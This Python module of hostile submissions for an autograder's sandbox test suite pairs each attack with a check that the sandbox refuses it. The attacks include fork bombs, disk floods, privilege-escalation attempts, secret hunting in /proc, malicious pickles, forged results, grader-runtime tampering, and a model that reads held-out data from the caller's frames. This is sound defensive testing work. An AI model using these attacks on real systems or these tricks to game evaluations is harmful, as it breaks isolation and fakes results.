"""Hostile and broken submissions for the adversarial suite, each named for its expected outcome.

Every entry builds one file (a notebook, raw bytes or a link) for ``course grade``. Worker-run
attacks start from the released notebook (every exercise unsolved, so any point gained is
visible) and put their code in answer cells; a cell that wants to report what it saw raises
``RuntimeError("VERDICT {json} ENDVERDICT")``, which reaches results.json as that cell's error.
The harness helpers at the end (process scan, repository hash, verdict parsing) are shared by
tests/test_adversarial.py and tests/test_resume.py.
"""
from __future__ import annotations

import fcntl
import hashlib
import json
import os
import re
import shutil
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbfactory

from course.config import load_config
from course.grader.cgroups import cgroup_controls
from course.grader.isolation import IsolationLevel

REPO = Path(__file__).resolve().parent.parent
SECRET_NAME = "COURSE_ADV_SECRET"  # set in the grader's environment by the suite, never visible to workers
MAX_PROCESSES = load_config().limits.max_processes
MAX_FILE_BYTES = load_config().limits.max_file_size_mb << 20
TMPFS_BYTES = 4 * MAX_FILE_BYTES  # size of each private tmpfs at the bwrap level
SCRUBBED_ENV = {"PATH", "PWD", "HOME", "TMPDIR", "LANG", "LC_ALL", "USER", "LOGNAME", "OMP_NUM_THREADS",
                "MKL_NUM_THREADS", "OPENBLAS_NUM_THREADS", "PYTHONHASHSEED", "PYTHONDONTWRITEBYTECODE", "MPLBACKEND",
                "MPLCONFIGDIR"}
VERDICT_RE = re.compile(r"Cell `([^`]+)` raised an error: RuntimeError: VERDICT (.*?) ENDVERDICT", re.S)


@dataclass(frozen=True)
class Env:
    """What the suite prepared for one campaign; attacks get it as the constant ``ADV``.

    Attributes:
        marker: a unique string every process an attack leaves behind carries in its argv.
        tcp_port / udp_port: loopback ports the suite listens on (nothing may ever arrive).
        abstract: an abstract unix socket name the suite listens on.
        canary_dir: a folder of the suite's where no worker may create anything.
        out_dir: the --out folder of the hostile batch.
        tmpdir: the grader's TMPDIR (its worker roots live there).
        control_id: a control submission graded in the same batch.
    """

    marker: str
    tcp_port: int
    udp_port: int
    abstract: str
    canary_dir: str
    out_dir: str
    tmpdir: str
    control_id: str
    repo: str = str(REPO)

    def consts(self) -> dict[str, Any]:
        return {k: getattr(self, k) for k in self.__dataclass_fields__}


@dataclass
class Graded:
    """One submission's results as the suite reads them back."""

    results: dict[str, Any]
    feedback: str
    verdicts: dict[str, dict[str, Any]]

    @property
    def status(self) -> str:
        return self.results["extra_data"]["status"]

    @property
    def text(self) -> str:
        """The top-level output and every test's output: what a student reads."""
        return "\n".join([self.results["output"], *(t["output"] for t in self.results["tests"])])

    def tests_tagged(self, tag: str) -> list[dict[str, Any]]:
        return [t for t in self.results["tests"] if tag in t["tags"]]


@dataclass(frozen=True)
class Entry:
    """One submission and its stated outcome.

    Attributes:
        name: the file stem, which is also the submission id.
        build: writes the submission at the given path.
        status: results.json ``extra_data.status``.
        score: the exact score (None: not stated).
        messages: substrings of what the student reads (top-level output and test outputs).
        check: further assertions on the graded submission (verdicts, canaries).
        min_level: the weakest isolation at which the outcome is promised; below it the entry is not graded.
        skip_reason: returns why the entry cannot run on this machine, or None.
        threshold: graded with the grader-run training (a separate, small batch).
        known_defect: the grader defect the entry still exposes (its test is a strict xfail).
        file: the file name when the name itself is the attack (default: ``<name>.ipynb``).
    """

    name: str
    build: Callable[[Env, Path], None]
    status: str = "graded"
    score: float | None = 0.0
    messages: tuple[str, ...] = ()
    check: Callable[[Graded, Env], None] | None = None
    min_level: IsolationLevel = IsolationLevel.RLIMITS
    skip_reason: Callable[[], str | None] | None = None
    threshold: bool = False
    known_defect: str | None = None
    file: str | None = None

    @property
    def filename(self) -> str:
        return self.file or f"{self.name}.ipynb"


# --- building submissions -------------------------------------------------------------------------

PRELUDE = '''ADV = {consts!r}


def _verdict(**found):
    import json as _json
    raise RuntimeError("VERDICT " + _json.dumps(found, default=str, sort_keys=True) + " ENDVERDICT")


'''


def attack(**cells: str) -> Callable[[Env, Path], None]:
    """A builder: the released notebook with these answer cells replaced by attack code."""

    def build(env: Env, path: Path) -> None:
        prelude = PRELUDE.format(consts=env.consts())
        nbfactory.write(nbfactory.with_answers(nbfactory.release(), **{k: prelude + v for k, v in cells.items()}), path)

    return build


def raw(make: Callable[[Env], bytes]) -> Callable[[Env, Path], None]:
    def build(env: Env, path: Path) -> None:
        path.write_bytes(make(env))

    return build


def notebook(make: Callable[[Env], dict]) -> Callable[[Env, Path], None]:
    def build(env: Env, path: Path) -> None:
        nbfactory.write(make(env), path)

    return build


def _release_bytes() -> bytes:
    return json.dumps(nbfactory.release(), indent=1).encode()


def _many_cells(env: Env) -> dict:
    nb = nbfactory.release()
    empty = {"cell_type": "code", "metadata": {}, "source": "", "outputs": [], "execution_count": None}
    nb["cells"] = [empty] * 100_000
    return nb


def _invalid_utf8(env: Env) -> bytes:
    data = _release_bytes()
    cut = data.index(b"class MyRNN")
    return data[:cut] + b"\xc3\x28\xff" + data[cut:]


def _nbformat3(env: Env) -> dict:
    cells = [{"cell_type": "code", "input": nbfactory.answer_source("MyRNN"), "language": "python", "outputs": []}]
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "lab_rnn"}, "worksheets": [{"cells": cells}]}


def _julia(env: Env) -> dict:
    nb = nbfactory.solution()
    nb["metadata"] = {"kernelspec": {"name": "julia-1.10", "display_name": "Julia", "language": "julia"},
                      "language_info": {"name": "julia"}}
    return nb


def _nesting_bomb(env: Env) -> bytes:
    return b'{"nbformat": 4, "cells": [], "metadata": {"x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}"


def _three_10mb_cells(env: Env) -> dict:
    nb = nbfactory.solution()
    nb["cells"] += [{"cell_type": "markdown", "metadata": {}, "source": "x" * 10_000_000}] * 3
    return nb


def _symlink(env: Env, path: Path) -> None:
    path.symlink_to(load_config().source_notebook)


def _unknown_cell_type(env: Env) -> dict:
    nb = nbfactory.release()
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "MyRNN":
            cell["cell_type"] = "x\ud800" * 10_000  # a lone surrogate: not writable as UTF-8
    return nb


def _duplicated_ids(env: Env) -> dict:
    nb = nbfactory.release()
    later = []
    for cell in nb["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if cell["cell_type"] == "code" and gid and cell["metadata"]["nbgrader"].get("solution"):
            twin = json.loads(json.dumps(cell))
            twin["source"] = nbfactory.answer_source(gid)  # the right answer, but in the second cell with that id
            later.append(twin)
    setup = {"cell_type": "code", "metadata": {"nbgrader": {"grade_id": "setup", "solution": True, "grade": False}},
             "source": f"open({env.canary_dir + '/duplicated-setup'!r}, 'w')", "outputs": [], "execution_count": None}
    nb["cells"] += later + [setup]
    return nb


def _huge_answer(env: Env) -> dict:
    payload = f"\nopen({env.canary_dir + '/huge-cell-ran'!r}, 'w')\n"
    return nbfactory.with_answers(nbfactory.release(), MyRNN="# " + "x" * 10_000_000 + payload)


# --- attack code ------------------------------------------------------------------------------------------

TCP = '''
import socket
found = {}
try:
    s = socket.create_connection(("127.0.0.1", ADV["tcp_port"]), timeout=2)
    s.sendall(ADV["marker"].encode())
    found["tcp"] = "connected"
except OSError as e:
    found["tcp"] = f"{type(e).__name__} errno {e.errno}"
try:
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    u.settimeout(2)
    u.connect("\\0" + ADV["abstract"])
    u.sendall(ADV["marker"].encode())
    found["abstract_unix"] = "connected"
except OSError as e:
    found["abstract_unix"] = f"{type(e).__name__} errno {e.errno}"
found["interfaces"] = [name for _, name in socket.if_nameindex()]
_verdict(**found)
'''

DNS = '''
import socket, struct
found = {}
for name in ("example.com", "pypi.org"):
    try:
        found[name] = sorted({a[4][0] for a in socket.getaddrinfo(name, 443)})
    except OSError as e:
        found[name] = f"{type(e).__name__} {e.errno}"
labels = ["leak", ADV["marker"], "example", "com"]
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
query += b"".join(bytes([len(p)]) + p.encode() for p in labels) + b"\\0" + struct.pack(">HH", 1, 1)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(query, ("127.0.0.1", ADV["udp_port"]))
    found["udp"] = "sent"
except OSError as e:
    found["udp"] = f"{type(e).__name__} errno {e.errno}"
_verdict(**found)
'''

READ_REPO = '''
import os
found = {}
for rel in ("course_config.py", "autograder/lab_rnn/reference.py", "autograder/lab_rnn/calibration.json",
            "source/lab_rnn/lab_rnn.ipynb", "course/grade.py", ".git/config", "corpus/pydoc_topics.txt"):
    try:
        with open(os.path.join(ADV["repo"], rel), "rb") as f:
            found[rel] = "read: " + f.read(80).decode("utf-8", "replace")
    except OSError as e:
        found[rel] = f"{type(e).__name__} errno {e.errno}"
try:
    found["listdir"] = sorted(os.listdir(ADV["repo"]))[:20]
except OSError as e:
    found["listdir"] = f"{type(e).__name__} errno {e.errno}"
for mod in ("autograder.lab_rnn.reference", "course.grader.grade", "course_config", "pydoc_data.topics"):
    try:
        m = __import__(mod, fromlist=["_"])
        found[mod] = "imported " + str(getattr(m, "__file__", ""))
    except Exception as e:
        found[mod] = type(e).__name__
_verdict(**found)
'''

SEARCH_FS = '''
import os, time
wanted = {"course_config.py", "calibration.json", "lab_rnn.ipynb", "test_myrnn.py", "nbgrader_export.py", "keeper.py",
          "pydoc_topics.txt"}
found, seen, t0 = [], 0, time.monotonic()
for root, dirs, files in os.walk("/"):
    if root == "/":
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    seen += len(files)
    found += [os.path.join(root, f) for f in files
              if (f in wanted or "lab_rnn" in root.split("/")) and not root.startswith("/grader")]
    if seen > 500_000 or time.monotonic() - t0 > 15:
        break
_verdict(files_seen=seen, found=found[:20], seconds=round(time.monotonic() - t0, 1))
'''

GRADER_PROCS = '''
import glob, os
found = {"pid": os.getpid(), "ppid": os.getppid()}
pids = [p for p in os.listdir("/proc") if p.isdigit()]
hits, cmds = [], []
for p in pids:
    for what in ("cmdline", "environ"):
        try:
            with open(f"/proc/{p}/{what}", "rb") as f:
                data = f.read()
        except OSError:
            continue
        if b"adv-secret" in data or b"COURSE_ADV_SECRET" in data:
            hits.append(f"{p}/{what}")
        if what == "cmdline":
            cmds.append(data.replace(b"\\0", b" ").decode("utf-8", "replace")[:120])
found.update(visible_pids=len(pids), secret_hits=hits, cmdlines=cmds[:10])
try:
    with open(f"/proc/{os.getppid()}/environ", "rb") as f:
        found["parent_environ_bytes"] = len(f.read())
except OSError as e:
    found["parent_environ_bytes"] = type(e).__name__
found["fds"] = sorted(int(x) for x in os.listdir("/proc/self/fd"))
others = glob.glob("/tmp/course-worker-*") + glob.glob("/tmp/grade-*") + glob.glob(ADV["tmpdir"] + "/*")
found["other_worker_dirs"] = others[:5]
configs = []
for d in others:
    for cfg in glob.glob(d + "/run*/runtime/config.json"):
        try:
            configs.append(cfg + ": " + open(cfg).read(40))
        except OSError as e:
            configs.append(cfg + ": " + type(e).__name__)
found["other_configs"] = configs[:5]
_verdict(**found)
'''

ENVIRON = '''
import os
env = dict(os.environ)
_verdict(names=sorted(env), secret=[k for k, v in env.items() if "adv-secret" in v or k == "COURSE_ADV_SECRET"],
         home=env.get("HOME"))
'''

WRITE_OUTSIDE = '''
import os, sys
targets = {
    "canary": ADV["canary_dir"] + "/written-by-worker",
    "repo": ADV["repo"] + "/adv-" + ADV["marker"] + ".txt",
    "host_tmp": "/tmp/adv-" + ADV["marker"],
    "forged_result": ADV["out_dir"] + "/forged-" + ADV["marker"] + "/results.json",
    "control_result": ADV["out_dir"] + "/" + ADV["control_id"] + "/results.json",
    "etc": "/etc/adv-" + ADV["marker"],
    "venv": sys.prefix + "/adv-" + ADV["marker"],
    "worker_runtime": sys.modules["course.worker.wire"].__file__,
    "worker_ops": sys.modules["ops"].__file__,
}
found = {}
for key, path in targets.items():
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
    except OSError:
        pass
    try:
        with open(path, "a") as f:
            f.write('{"score": 100, "tests": []}')
        found[key] = "written"
    except OSError as e:
        found[key] = f"{type(e).__name__} errno {e.errno}"
_verdict(**found)
'''

FORK_BOMB = '''
import os
forks, stopped = 0, None
try:
    while forks < 5000:
        if os.fork() == 0:
            try:
                os.fork()
                os.fork()
            except OSError:
                pass
            try:
                os.execv("/bin/sleep", [ADV["marker"], "600"])
            finally:
                os._exit(0)
        forks += 1
except OSError as e:
    stopped = f"{type(e).__name__} errno {e.errno}"
_verdict(forks=forks, stopped_by=stopped)
'''

THREAD_BOMB = '''
import threading
never = threading.Event()
threads, stopped = 0, None
try:
    while threads < 5000:
        threading.Thread(target=never.wait, daemon=True).start()
        threads += 1
except RuntimeError as e:
    stopped = str(e)
_verdict(threads=threads, stopped_by=stopped)
'''

FD_BOMB = '''
import os
fds, stopped = [], None
try:
    while len(fds) < 100_000:
        fds.append(os.open("/dev/null", os.O_RDONLY))
except OSError as e:
    stopped = f"{type(e).__name__} errno {e.errno}"
count = len(fds)
for fd in fds:
    os.close(fd)
_verdict(fds=count, stopped_by=stopped)
'''

BIG_FILE = '''
import os
found = {}
try:
    with open("sparse.bin", "wb") as f:
        f.seek(10 << 30)
        f.write(b"x")
    found["sparse_10gb"] = "written"
except OSError as e:
    found["sparse_10gb"] = f"{type(e).__name__} errno {e.errno}"
chunk = b"\\0" * (1 << 20)
try:
    with open("dense.bin", "wb") as f:
        for _ in range(10 << 10):
            f.write(chunk)
    found["dense_10gb"] = "written"
except OSError as e:
    found["dense_10gb"] = f"{type(e).__name__} errno {e.errno}"
found["dense_bytes"] = os.path.getsize("dense.bin")
for name in ("sparse.bin", "dense.bin"):
    if os.path.exists(name):
        os.remove(name)
_verdict(**found)
'''

FILL_DISKS = '''
import os
chunk = b"\\0" * (1 << 20)
found = {}
for d in (os.getcwd(), "/tmp", "/dev/shm"):
    total, names = 0, []
    try:
        while total < (2 << 30):
            name = os.path.join(d, f"fill{len(names)}.bin")
            names.append(name)
            with open(name, "wb") as f:
                for _ in range(32):
                    f.write(chunk)
                    total += len(chunk)
    except OSError as e:
        found[d + "_stopped_by"] = f"{type(e).__name__} errno {e.errno}"
    found[d] = sum(os.path.getsize(n) for n in names if os.path.exists(n))
    for n in names:
        if os.path.exists(n):
            os.remove(n)
_verdict(**found)
'''

OUTPUT_FLOOD = '''
import os
for _ in range(1000):
    print("y" * 1_000_000)
written, stopped = 0, None
chunk = b"z" * (1 << 20)
try:
    while written < (1 << 30):
        written += os.write(1, chunk)
except OSError as e:
    stopped = f"{type(e).__name__} errno {e.errno}"
_verdict(raw_bytes=written, stopped_by=stopped)
'''

DAEMON_BODY = '''
import os, signal, sys, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGUSR1, signal.SIGPIPE):
    signal.signal(s, signal.SIG_IGN)
w = int(sys.argv[2])
os.write(w, f"alive {os.getpid()}".encode())
os.close(w)
while True:
    try:
        with open(sys.argv[3], "w") as f:
            f.write("the daemon outlived its worker")
    except OSError:
        pass
    time.sleep(0.2)
'''

DAEMON = f'''
import os, sys
BODY = {DAEMON_BODY!r}
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    os.close(r)
    os.setsid()
    if os.fork() == 0:
        os.set_inheritable(w, True)
        try:
            os.execv(sys.executable, [sys.executable, "-c", BODY, ADV["marker"], str(w), ADV["canary_dir"] + "/daemon"])
        finally:
            os._exit(0)
    os._exit(0)
os.close(w)
os.waitpid(pid, 0)
_verdict(daemon=os.read(r, 100).decode())
'''

SIGNAL_GAMES = '''
import signal, threading
found = {}
for name in ("SIGTERM", "SIGINT", "SIGHUP", "SIGALRM", "SIGUSR1", "SIGUSR2", "SIGXCPU", "SIGPIPE", "SIGQUIT",
             "SIGTSTP", "SIGTTIN", "SIGTTOU", "SIGKILL"):
    try:
        signal.signal(getattr(signal, name), signal.SIG_IGN)
        found[name] = "ignored"
    except (OSError, ValueError, RuntimeError) as e:
        found[name] = type(e).__name__
signal.pthread_kill(threading.main_thread().ident, signal.SIGINT)
signal.alarm(1)
signal.setitimer(signal.ITIMER_REAL, 0.3, 0.3)
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
found["blocked"] = len(signal.pthread_sigmask(signal.SIG_BLOCK, []))
_verdict(**found)
'''

KILL_EVERYTHING = '''
import os, signal
found = {"visible_pids": sum(p.isdigit() for p in os.listdir("/proc"))}
if found["visible_pids"] > 5:  # not in a pid namespace of its own: report instead of killing the machine
    _verdict(**found)
for label, pid in (("parent", os.getppid()), ("pid_1", 1)):
    try:
        os.kill(pid, signal.SIGKILL)
        found[label] = "sent"
    except OSError as e:
        found[label] = f"{type(e).__name__} errno {e.errno}"
sent = 0
for pid in range(2, 40_000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
            sent += 1
        except OSError:
            pass
found["brute_force_sent"] = sent
try:
    os.kill(-1, signal.SIGKILL)
    found["kill_minus_one"] = "sent"
except OSError as e:
    found["kill_minus_one"] = f"{type(e).__name__} errno {e.errno}"
_verdict(**found)
'''

PRIVILEGE = '''
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
found = {}


def attempt(label, fn):
    try:
        rc = fn()
        found[label] = "ok" if rc in (0, None) else f"errno {ctypes.get_errno()}"
    except OSError as e:
        found[label] = f"{type(e).__name__} errno {e.errno}"


attempt("setuid_0", lambda: os.setuid(0))
attempt("unshare_user_ns", lambda: libc.unshare(0x10000000))
attempt("unshare_net_ns", lambda: libc.unshare(0x40000000))
attempt("mount_tmpfs", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
attempt("chroot", lambda: os.chroot("/tmp"))
attempt("cgroup_escape", lambda: open("/sys/fs/cgroup/cgroup.procs", "w").write(str(os.getpid())))
for prog in (["sudo", "-n", "true"], ["su", "-c", "true"]):
    try:
        found[prog[0]] = f"exit {subprocess.run(prog, capture_output=True, timeout=5).returncode}"
    except (OSError, subprocess.SubprocessError) as e:
        found[prog[0]] = type(e).__name__
status = open("/proc/self/status").read()
found["uid"] = os.getuid()
found["CapEff"] = status.split("CapEff:")[1].split()[0]
_verdict(**found)
'''

PICKLE_FILES = '''
import os
import numpy as np
payload = b"c__builtin__\\nopen\\n(V" + ADV["canary_dir"].encode() + b"/unpickled\\nVw\\ntR."
names = ["results.json", "responses.json", "response_arrays.npz", "plan.json", "plan_arrays.npz", "threshold.json",
         "checks.json", "sources.json", "context.json", "calibration.json", "responses.pkl", "data.pkl"]
planted = 0
for d in {os.getcwd(), os.environ["TMPDIR"], os.path.expanduser("~")}:  # the worker's own folders at every level
    for n in names:
        try:
            with open(os.path.join(d, n), "wb") as f:
                f.write(payload)
            planted += 1
        except OSError:
            pass
np.save("objects.npy", np.array([{"a": 1}], dtype=object), allow_pickle=True)
_verdict(planted=planted)
'''

PICKLE_FRAME = '''
import json, os, struct, sys
payload = b"c__builtin__\\nopen\\n(V" + ADV["canary_dir"].encode() + b"/unpickled-frame\\nVw\\ntR."
head = json.dumps({"kind": "cell", "index": 3, "status": "ok", "offset": 0,
                   "arrays": [{"name": "x", "dtype": "object", "shape": [1], "nbytes": len(payload)}]}).encode()
os.write(int(sys.argv[-1]), struct.pack(">I", len(head)) + head + payload)
'''

SEGFAULT = '''
import sys
sys.setrecursionlimit(10**8)
nested = []
for _ in range(2_000_000):
    nested = [nested]
repr(nested)
'''

RECURSION_LIMIT = '''
import json
nested = []
for _ in range(100_000):
    nested = [nested]
json.dumps(nested)
'''

RECURSIVE_RETURN = '''
def build_vocab(text):
    loop = {}
    loop["self"] = loop
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return loop, deep
'''

RECURSIVE_TENSOR = '''
import torch


class Endless(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return func(*args, **(kwargs or {}))  # calls itself again through the override


def encode(text, char2idx):
    return torch.tensor([char2idx[c] for c in text]).as_subclass(Endless)
'''

HUGE_REPLY = '''
import torch


def encode(text, char2idx):
    return torch.zeros(62_000_000)  # 248 MB of float32 sent back for every probe
'''

NAN_TENSORS = '''
import torch


def lstm_cell(x_t, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh):
    return h_prev * float("nan"), c_prev * float("inf")  # still differentiable
'''

EXPANDED_TENSOR = '''
import torch


def to_batch_first(x):
    return torch.zeros(1).expand(3_000_000_000)  # 12 GB once made contiguous
'''

COMPLEX_TENSOR = '''
import torch


def batch_sequences(sequences):
    return torch.zeros(len(sequences), *sequences[0].shape, dtype=torch.complex64)
'''

FORGED_FLAGS_TRAIN = '''
import torch


class Liar(torch.Tensor):
    """torch.equal always says yes, hoping the grader's carried-state record believes it."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func is torch.equal:
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


def train_epoch(model, batches, optimizer, clip=1.0):
    state = None
    for x, y in batches:
        if state is not None:
            state = tuple(torch.zeros_like(s).as_subclass(Liar) for s in state)  # never the carried state
        _, state = model(x, state)
    return 0.0
'''

FORGED_FLAGS_PERPLEXITY = '''
import torch


def perplexity(model, batches):
    torch.is_grad_enabled = lambda: False  # what the grader's model records as the gradient mode
    model.eval()
    for x, y in batches:
        model(x)
    return 1.0
'''

TAMPER_WORKER = '''
import sys, types
rt = sys.modules["course.worker.runtime"]
real_call_op = rt.call_op


def call_op(ops, ns, name, params, arrays):
    """Claim success for every probe: echo the grader's own inputs back as the answer."""
    real_call_op(ops, ns, name, params, arrays)
    value = {k: {"type": "torch.Tensor", "dtype": "torch.float32", "shape": list(v.shape), "requires_grad": False}
             for k, v in arrays.items()}
    first = next(iter(arrays.values()), None)
    out = dict(arrays)
    if first is not None:
        value["y"] = dict(next(iter(value.values())))
        out["y"] = first
    value["result"] = {"type": "builtins.float", "value": 1.0}
    return "ok", value, out, ""


rt.call_op = call_op
sys.modules["numpy"] = types.ModuleType("numpy")  # later imports of numpy get an empty module
sys.modules["json"] = types.ModuleType("json")
'''

SURROGATE = '''
raise RuntimeError("a lone surrogate " + chr(0xD800) + " in the message")
'''

BROKEN_STR = '''
class Unprintable(Exception):
    def __str__(self):
        raise ValueError("no message for you")


raise Unprintable()
'''

HUGE_MESSAGE = '''
raise RuntimeError("A" * 50_000_000)
'''

LOOKAHEAD_MODEL = '''
import gc, sys
import numpy as np
import torch
from torch import nn


class CharLSTM(nn.Module):
    """Never learns: looks for the held-out text in the grader's frames, in memory and on disk."""

    def __init__(self, vocab_size, embed_size=64, hidden_size=256, num_layers=1, dropout=0.0):
        super().__init__()
        self.vocab = vocab_size
        self.head = nn.Linear(1, vocab_size)
        self.calls = 0
        self.candidates = []

    def _candidate(self, obj, x):
        arr = obj.detach().numpy() if isinstance(obj, torch.Tensor) else obj
        if isinstance(arr, np.ndarray) and arr.dtype.kind in "iu" and arr.ndim == 2 and arr.shape[0] == x.shape[0] \\
                and arr.shape[1] > 1000:
            return arr
        return None

    def _look(self, x):
        frame = sys._getframe(1)
        while frame is not None:  # every local and global of every caller
            for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                found = self._candidate(value, x)
                if found is not None:
                    return found
            frame = frame.f_back
        if self.calls in (0, 1, 100, 700):  # arrays are not tracked by gc: look inside its containers
            for obj in gc.get_objects():
                items = obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple)) else ()
                for value in list(items):
                    found = self._candidate(value, x)
                    if found is not None:
                        return found
        if self.calls == 0:
            import sysconfig
            try:
                text = open(sysconfig.get_paths()["stdlib"] + "/pydoc_data/topics.py").read()
                if text:
                    self.candidates.append("pydoc_data readable")
            except OSError:
                pass
        return None

    def forward(self, x, state=None):
        logits = torch.zeros(x.shape[0], x.shape[1], self.vocab)
        if not self.training:
            streams = self._look(x)
            if streams is not None:
                self.candidates.append(list(streams.shape))
                nxt = torch.as_tensor(streams[:, self.calls + 1]).long()  # the next held-out character
                logits[torch.arange(x.shape[0]), -1, nxt] = 50.0
            if self.calls in (0, 700):
                print(f"LOOKAHEAD calls={self.calls} candidates={self.candidates}")
            self.calls += 1
        return logits, state
'''

FORGED_STEPS = '''
def train_epoch(model, batches, optimizer, clip=1.0):
    """No training at all: calls the optimizer's step hooks so that the steps look made."""
    for hook in list(getattr(optimizer, "_optimizer_step_post_hooks", {}).values()):
        for _ in batches:
            hook(optimizer, (), {})
    return 0.0
'''

NAN_MODEL = '''
import torch
from torch import nn


class CharLSTM(nn.Module):
    def __init__(self, vocab_size, embed_size=64, hidden_size=256, num_layers=1, dropout=0.0):
        super().__init__()
        self.vocab = vocab_size
        self.head = nn.Linear(1, vocab_size)

    def forward(self, x, state=None):
        return torch.full((x.shape[0], x.shape[1], self.vocab), float("nan")), state
'''


# --- checks ------------------------------------------------------------------------------------------------


def _verdict(graded: Graded, cell: str) -> dict[str, Any]:
    assert cell in graded.verdicts, f"cell {cell} sent no verdict; results output: {graded.results['output'][:1500]}"
    return graded.verdicts[cell]


def _refused(value: Any) -> bool:
    return isinstance(value, str) and value not in ("ok", "sent", "connected", "written") and not value.startswith(
        ("read:", "imported", "exit 0"))


def check_network(g: Graded, env: Env) -> None:
    v = _verdict(g, "MyRNN")
    assert _refused(v["tcp"]) and _refused(v["abstract_unix"]), v
    assert v["interfaces"] == ["lo"], v  # a network namespace of its own: only a loopback
    d = _verdict(g, "lstm_cell")
    assert isinstance(d["example.com"], str) and isinstance(d["pypi.org"], str), d  # no address came back


def check_read_repo(g: Graded, env: Env) -> None:
    v = _verdict(g, "MyRNN")
    for key, value in v.items():
        if key == "listdir":
            assert value in ([".venv"], []) or _refused(value), v  # only the mount point of the venv exists
        else:
            assert _refused(value), (key, value)
    assert "COURSE_ID" not in g.text and "BEGIN SOLUTION" not in g.text


def check_search(g: Graded, env: Env) -> None:
    check_read_repo(g, env)
    v = _verdict(g, "lstm_cell")
    assert v["found"] == [], v
    assert v["files_seen"] > 1000, v  # it did search the system it could see


def check_grader_procs(g: Graded, env: Env) -> None:
    v = _verdict(g, "MyRNN")
    assert v["secret_hits"] == [], v
    assert v["visible_pids"] <= 3, v  # its own pid namespace: bubblewrap's init and the worker
    assert not any("course grade" in c or "pytest" in c for c in v["cmdlines"]), v
    assert v["other_worker_dirs"] == [] and v["other_configs"] == [], v


def check_environ(g: Graded, env: Env) -> None:
    check_grader_procs(g, env)
    v = _verdict(g, "lstm_cell")
    assert v["secret"] == [] and set(v["names"]) <= SCRUBBED_ENV, v


def check_write_outside(g: Graded, env: Env) -> None:
    v = _verdict(g, "MyRNN")
    for key in ("venv", "worker_runtime", "worker_ops"):  # read-only binds
        assert "errno 30" in v[key], (key, v[key])  # EROFS
    # Other paths may be creatable inside the sandbox's own tmpfs; the host must never see them.
    for path in (Path(env.canary_dir) / "written-by-worker", REPO / f"adv-{env.marker}.txt",
                 Path(f"/tmp/adv-{env.marker}"), Path(env.out_dir) / f"forged-{env.marker}",
                 Path(f"/etc/adv-{env.marker}")):
        assert not path.exists(), path


def process_bound_reason() -> str | None:
    if "pids cgroup" in cgroup_controls() or os.geteuid() != 0:
        return None
    return "no pids cgroup and the grader runs as root: nothing bounds the number of processes"


def check_fork_bomb(g: Graded, env: Env) -> None:
    v = _verdict(g, "MyRNN")
    assert 0 < v["forks"] <= MAX_PROCESSES and "errno 11" in v["stopped_by"], v  # EAGAIN


def check_thread_and_fd_bombs(g: Graded, env: Env) -> None:
    v = _verdict(g, "MyRNN")
    assert 0 < v["threads"] <= MAX_PROCESSES and "can't start new thread" in v["stopped_by"], v
    f = _verdict(g, "lstm_cell")
    assert 900 < f["fds"] <= 1024 and "errno 24" in f["stopped_by"], f  # EMFILE at RLIMIT_NOFILE


def check_big_files(g: Graded, env: Env) -> None:
    v = _verdict(g, "MyRNN")
    assert "errno 27" in v["sparse_10gb"] and "errno 27" in v["dense_10gb"], v  # EFBIG
    assert v["dense_bytes"] <= MAX_FILE_BYTES, v
    f = _verdict(g, "lstm_cell")
    for d in ("/sandbox", "/tmp", "/dev/shm"):
        assert f[d] <= TMPFS_BYTES and "errno 28" in f[d + "_stopped_by"], f  # ENOSPC on a small private tmpfs


def check_output_flood(g: Graded, env: Env) -> None:
    v = _verdict(g, "MyRNN")
    assert v["raw_bytes"] <= MAX_FILE_BYTES and "errno 27" in v["stopped_by"], v
    assert "[output truncated" in g.feedback and len(g.feedback) < 20_000
    assert len(json.dumps(g.results)) < 50_000


def check_daemon(g: Graded, env: Env) -> None:
    v = _verdict(g, "MyRNN")
    assert v["daemon"].startswith("alive "), v  # it was running when the cell ended
    assert not (Path(env.canary_dir) / "daemon").exists()


def check_signals(g: Graded, env: Env) -> None:
    v = _verdict(g, "MyRNN")
    assert v["SIGTERM"] == "ignored" and v["SIGKILL"] != "ignored" and v["blocked"] > 50, v
    k = _verdict(g, "lstm_cell")
    assert k["visible_pids"] <= 5 and k["brute_force_sent"] == 0, k  # no other process is in reach
    assert k["parent"] == "sent" and k["pid_1"] == "sent", k  # delivered to the namespace's init, which ignores it


def check_privilege(g: Graded, env: Env) -> None:
    check_write_outside(g, env)
    v = _verdict(g, "lstm_cell")
    for key in ("setuid_0", "unshare_user_ns", "unshare_net_ns", "mount_tmpfs", "chroot", "cgroup_escape", "sudo",
                "su"):
        assert _refused(v[key]), (key, v[key])
    assert v["uid"] == 65534 and int(v["CapEff"], 16) == 0, v


def check_pickles(g: Graded, env: Env) -> None:
    assert _verdict(g, "MyRNN")["planted"] > 0
    assert not (Path(env.canary_dir) / "unpickled").exists()
    assert not (Path(env.canary_dir) / "unpickled-frame").exists()


def check_huge_reply(g: Graded, env: Env) -> None:
    assert g.tests_tagged("encode")
    for test in g.tests_tagged("encode"):
        assert test["status"] == "failed" and "malformed data" in test["output"], test


